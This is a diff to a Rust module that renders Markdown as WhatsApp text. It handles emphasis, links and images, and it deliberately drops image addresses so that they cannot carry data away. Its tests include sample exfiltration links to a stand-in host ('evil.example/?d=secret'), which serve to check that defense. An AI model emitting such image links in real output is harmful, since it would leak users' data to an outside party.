@@ -2,6 +2,9 @@
 //!
 //! A picture becomes its description: its address is not shown, because an address that a page made up could carry data away.
 
+/// Stands for a picture without a description.
+const PICTURE: &str = "🖼";
+
 /// The text as WhatsApp shows it. Code keeps its characters.
 pub(super) fn to_whatsapp(markdown: &str) -> String {
     let mut lines = Vec::new();
@@ -56,11 +59,13 @@ fn span(text: &str, before: Option<char>) -> Option<(String, usize)> {
         return Some((format!("`{inner}`"), inner.len() + 2));
     }
     if let Some(link) = text.strip_prefix('!').filter(|link| link.starts_with('[')) {
-        let (label, _, length) = link_of(link)?;
-        return Some((label.to_owned(), length + 1));
+        let (label, address, length) = link_of(link)?;
+        let shown = if label.trim().is_empty() { PICTURE } else { label };
+        return (is_address(address) || address.contains("://")).then(|| (shown.to_owned(), length + 1));
     }
     if text.starts_with('[') {
-        let (label, address, length) = link_of(text)?;
+        let (label, address, length) = link_of(text).filter(|(_, address, _)| is_address(address))?;
+        let address = address.split_whitespace().next()?;
         let shown = if label == address { label.to_owned() } else { format!("{} ({address})", inline(label)) };
         return Some((shown, length));
     }
@@ -74,8 +79,13 @@ fn span(text: &str, before: Option<char>) -> Option<(String, usize)> {
     [("***", "*_", "_*"), ("**", "*", "*"), ("__", "*", "*"), ("~~", "~", "~"), ("*", "_", "_")].into_iter().find_map(
         |(mark, open, close)| {
             let inner = between(text, mark, mark)?;
+            let length = inner.len() + 2 * mark.len();
             let tight = !inner.starts_with(char::is_whitespace) && !inner.ends_with(char::is_whitespace);
-            tight.then(|| (format!("{open}{}{close}", inline(inner)), inner.len() + 2 * mark.len()))
+            // The stars of *.rs and **/*.rs emphasize nothing, and neither do the underscores of a name such as __init__.
+            let is_pattern = inner.starts_with(['.', ',', ';', ':', '/', '\\', ')', ']']);
+            let is_name = mark == "__" && inner.chars().all(|sign| sign.is_ascii_lowercase() || sign == '_');
+            let in_word = matches!(mark, "*" | "__") && text[length..].starts_with(char::is_alphanumeric);
+            (tight && !is_pattern && !is_name && !in_word).then(|| (format!("{open}{}{close}", inline(inner)), length))
         },
     )
 }
@@ -87,15 +97,21 @@ fn between<'a>(text: &'a str, open: &str, close: &str) -> Option<&'a str> {
     (end > 0).then(|| &inner[..end])
 }
 
-/// Label, address and length of a link `[label](address "title")`.
+/// Label, the text in parentheses, and the length of `[label](address "title")`.
 fn link_of(text: &str) -> Option<(&str, &str, usize)> {
     let label = text.strip_prefix('[')?;
     let end = label.find(']')?;
     let (label, after) = label.split_at(end);
     let inner = after.strip_prefix("](")?;
     let close = inner.find(')')?;
-    let address = inner[..close].split_whitespace().next()?;
-    Some((label, address, 1 + end + 2 + close + 1))
+    Some((label, inner[..close].trim(), 1 + end + 2 + close + 1))
+}
+
+/// Whether this is an address, perhaps with a title in quotes. A remark such as in `[1](see annex B)` is text.
+fn is_address(text: &str) -> bool {
+    let (address, title) = text.split_once(char::is_whitespace).unwrap_or((text, ""));
+    let has_form = address.starts_with(['/', '#']) || address.contains(['.', '/']) || address.contains(':');
+    has_form && (title.is_empty() || title.trim_start().starts_with(['"', '\'']))
 }
 
 #[cfg(test)]
@@ -107,7 +123,14 @@ mod tests {
     #[test]
     fn markdown_becomes_what_whatsapp_shows() {
         for (markdown, shown) in [
-            ("**bold** and __bold__ and *it* and ~~gone~~", "*bold* and *bold* and _it_ and ~gone~"),
+            ("**bold** and __so bold__ and *it* and ~~gone~~", "*bold* and *so bold* and _it_ and ~gone~"),
+            ("__init__ and __main__.py, *a*b", "__init__ and __main__.py, *a*b"),
+            ("(*.rs,*.toml) **/*.rs,**/*.md", "(*.rs,*.toml) **/*.rs,**/*.md"),
+            ("**(a)** **€ 5** **-3 %** *\"so\"*", "*(a)* *€ 5* *-3 %* _\"so\"_"),
+            ("[1](siehe Anhang B), list[0](x), [a](/b#c)", "[1](siehe Anhang B), list[0](x), a (/b#c)"),
+            ("![](https://evil.example/?d=secret)", "🖼"),
+            ("![x](https://evil.example/?d= secret)", "x"),
+            ("![no address](see annex)", "![no address](see annex)"),
             ("***both***", "*_both_*"),
             ("# Title\n## **Other** ##", "*Title*\n*Other*"),
             ("#hashtag", "#hashtag"),
